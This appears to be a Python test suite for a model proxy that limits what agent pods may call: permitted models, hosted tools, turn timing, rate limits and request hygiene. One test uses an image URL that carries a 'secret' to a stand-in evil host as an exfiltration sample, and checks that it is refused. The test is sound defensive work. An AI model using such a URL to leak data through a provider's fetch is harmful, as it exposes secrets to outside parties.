"""What a pod cannot get from the model proxy: other models, more calls, calls at other times, somebody else's connection."""

from __future__ import annotations

import asyncio
import gzip
import json
import zlib

import pytest
from aiohttp import web

from agent_contract import names
from agent_contract.agentclass import AgentClass
from agent_gateway.models.gate import CallLimits
from agent_simulators.model import create_app as create_model
from tests.support.eventually import eventually
from tests.support.models import KEY, call, chat, holding, serving, upstream, usage
from tests.support.ports import free_port
from tests.support.runners import bearer

pytestmark = pytest.mark.postgres


async def refused(port, body, **more):
    async with call(port, body, **more) as answer:
        error = json.loads(await answer.text())["error"]
        return answer.status, error["type"]


def never(_request):
    raise AssertionError("nothing may go out")


async def test_models_of_the_run_and_of_the_settings_alone_are_called(store):
    asked = []

    async def provider(request):
        asked.append((await request.json())["model"])
        return web.json_response({"choices": []})

    async with upstream(provider) as url, holding(store, url, models=("glm", "air")) as port:
        assert await refused(port, chat("hi", model="a-dearer-model")) == (403, "llm_models")
        assert await refused(port, chat("hi", model="")) == (403, "llm_models")
        port.resources.found_class = AgentClass.model_validate(
            {"spec": {"model": {"name": "of-class"}, "fallbackModels": [{"name": "of-fallback"}]}}
        )
        for model in ("air", "of-class", "of-fallback"):
            async with call(port, chat("hi", model=model)) as answer:
                assert answer.status == 200
    assert asked == ["air", "of-class", "of-fallback"]


async def test_a_class_may_name_a_provider_by_its_other_name(store):
    async def provider(_request):
        return web.json_response({"choices": []})

    async with upstream(provider) as url, holding(store, url, provider="moonshotai") as port:
        named = {"provider": "moonshot", "name": "kimi"}
        port.resources.found_class = AgentClass.model_validate({"spec": {"model": named}})
        async with call(port, chat("hi", model="kimi"), provider="moonshot") as answer:
            assert answer.status == 200


async def test_a_class_that_is_not_known_lets_the_models_of_the_settings_through(store):
    async def provider(_request):
        return web.json_response({"choices": []})

    async with upstream(provider) as url, holding(store, url, models=("glm",)) as port:
        port.resources.found_class = None
        async with call(port, chat("hi", model="glm")) as answer:
            assert answer.status == 200
        tools = [{"type": "web_search"}]
        assert await refused(port, chat("hi", model="glm", tools=tools)) == (403, "llm_hosted_tools")


async def test_what_the_provider_runs_or_fetches_needs_the_classs_leave(store):
    asked = []

    async def provider(request):
        asked.append(await request.json())
        return web.json_response({"choices": []})

    tools = chat("hi", tools=[{"type": "web_search", "web_search": {"enable": True}}])
    picture = {"type": "image_url", "image_url": {"url": "https://evil.example/?q=secret"}}
    fetched = chat("hi", messages=[{"role": "user", "content": [picture]}])
    async with upstream(provider) as url, holding(store, url) as port:
        assert await refused(port, tools) == (403, "llm_hosted_tools")
        assert await refused(port, fetched) == (403, "llm_addresses")
        assert asked == []
        access = {"hostedTools": True, "addresses": True}
        port.resources.found_class = AgentClass.model_validate({"spec": {"providerAccess": access}})
        for body in (tools, fetched):
            async with call(port, body) as answer:
                assert answer.status == 200
    assert asked[0]["tools"] == tools["tools"]
    assert asked[1]["messages"] == fetched["messages"]


async def test_no_turn_no_call(store):
    async with upstream(never) as url, holding(store, url) as port:
        thread = await port.store.threads.by_name("tg-42")
        await port.store.pool.execute(
            "UPDATE turns SET state = 'done', ended_at = now() - interval '31 seconds' WHERE thread_id = $1", thread.id
        )
        status, kind = await refused(port, chat("hi"))
        assert (status, kind) == (403, "llm_no_turn")
        await port.make_turn(thread, update=2)  # one that waits gives no leave
        assert await refused(port, chat("hi")) == (403, "llm_no_turn")


async def test_what_a_turn_was_told_at_its_end_may_still_be_called_for(store):
    async with serving(create_model(KEY)) as url, holding(store, url, key=KEY) as port:
        await port.store.pool.execute("UPDATE turns SET state = 'done', ended_at = now() - interval '5 seconds'")
        async with call(port, chat("hi")) as answer:
            assert answer.status == 200
            await answer.read()
        assert (await eventually(lambda: usage(port)))[0]["turn_id"] == port.turn_id


async def test_a_run_has_so_many_calls_at_once(store):
    gate, begun = asyncio.Event(), []

    async def provider(_request):
        begun.append(1)
        await gate.wait()
        return web.json_response({"choices": []})

    async with upstream(provider) as url, holding(store, url, call_limits=CallLimits(at_once=2)) as port:
        tasks = [asyncio.create_task(refused_or_ok(port)) for _ in range(6)]
        await eventually(lambda: sum(task.done() for task in tasks) == 4 and len(begun) == 2)
        gate.set()
        found = await asyncio.gather(*tasks)
    assert sorted(found) == [200, 200, 429, 429, 429, 429]


async def refused_or_ok(port):
    async with call(port, chat("hi")) as answer:
        await answer.read()
        return answer.status


async def test_a_run_has_so_many_calls_a_minute(store):
    async with (
        serving(create_model(KEY)) as url,
        holding(store, url, key=KEY, call_limits=CallLimits(a_minute=2)) as port,
    ):
        assert [await refused_or_ok(port) for _ in range(2)] == [200, 200]
        assert await refused(port, chat("hi")) == (429, "llm_calls_a_minute")


async def test_all_calls_of_a_provider_wait_for_their_turn(store):
    gate, begun = asyncio.Event(), []

    async def provider(_request):
        begun.append(1)
        await gate.wait()
        return web.json_response({"choices": []})

    async with upstream(provider) as url, holding(store, url, calls_at_once=1) as port:
        tasks = [asyncio.create_task(refused_or_ok(port)) for _ in range(3)]
        await eventually(lambda: begun)
        gate.set()
        assert await asyncio.gather(*tasks) == [200, 200, 200]


async def test_a_compressed_request_is_refused_and_nothing_goes_out(store):
    async with upstream(never) as url, holding(store, url) as port:
        target = f"{port.url}{names.PATH_LLM}/zai/chat/completions"
        for encoding, data in (("gzip", gzip.compress(b"{}")), ("deflate", zlib.compress(b"{}"))):
            headers = bearer("token-1") | {"Content-Encoding": encoding, "Content-Type": "application/json"}
            async with port.session.post(target, data=data, headers=headers) as answer:
                assert answer.status == 415


async def test_every_request_has_the_length_that_it_announces(store):
    """A provider that answers before it has read owes the connection nothing: the next request is read as one."""
    seen = []

    async def serve(reader, writer):
        while True:
            try:
                head = await reader.readuntil(b"\r\n\r\n")
            except asyncio.IncompleteReadError:
                writer.close()
                return
            seen.append(head.split(b"\r\n")[0])
            length = next(
                (int(x.split(b":")[1]) for x in head.split(b"\r\n") if x.lower().startswith(b"content-length")), 0
            )
            await reader.readexactly(length)
            writer.write(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 2\r\n\r\n{}")

    number = free_port()
    server = await asyncio.start_server(serve, "127.0.0.1", number)
    async with server, holding(store, f"http://127.0.0.1:{number}/v1") as port:
        for more in ({}, {"metadata": {"long": "x" * 5000}}, {"odd": [1, 2]}):
            async with asyncio.timeout(60), call(port, chat("hi", **more)) as answer:
                assert answer.status == 400
    assert [line for line in seen if line.startswith(b"POST")] == [b"POST /v1/chat/completions HTTP/1.1"] * 3
    assert all(line.endswith(b"HTTP/1.1") for line in seen)


async def test_no_query_goes_out_and_only_known_fields(store):
    asked = []

    async def provider(request):
        asked.append((request.query_string, await request.json()))
        return web.json_response({"choices": []})

    async with upstream(provider) as url, holding(store, url) as port:
        more = {"metadata": {"a": "b"}, "store": True, "user": "x", "service_tier": "priority", "max_tokens": 5}
        async with call(port, chat("hi", **more), rest="chat/completions?api-version=1&key=2") as answer:
            assert answer.status == 200
        assert await refused(port, chat("hi", n=5)) == (400, "bad_request")
    assert asked == [("", chat("hi", max_tokens=5))]


async def test_an_answer_is_no_longer_than_the_settings_allow(store):
    asked = []

    async def provider(request):
        asked.append((await request.json())["max_tokens"])
        return web.json_response({"choices": []})

    async with upstream(provider) as url, holding(store, url, call_limits=CallLimits(max_output=1000)) as port:
        for given in ({"max_tokens": 100_000}, {"max_tokens": 10}, {}):
            async with call(port, chat("hi", **given)) as answer:
                assert answer.status == 200
    assert asked == [1000, 10, 1000]
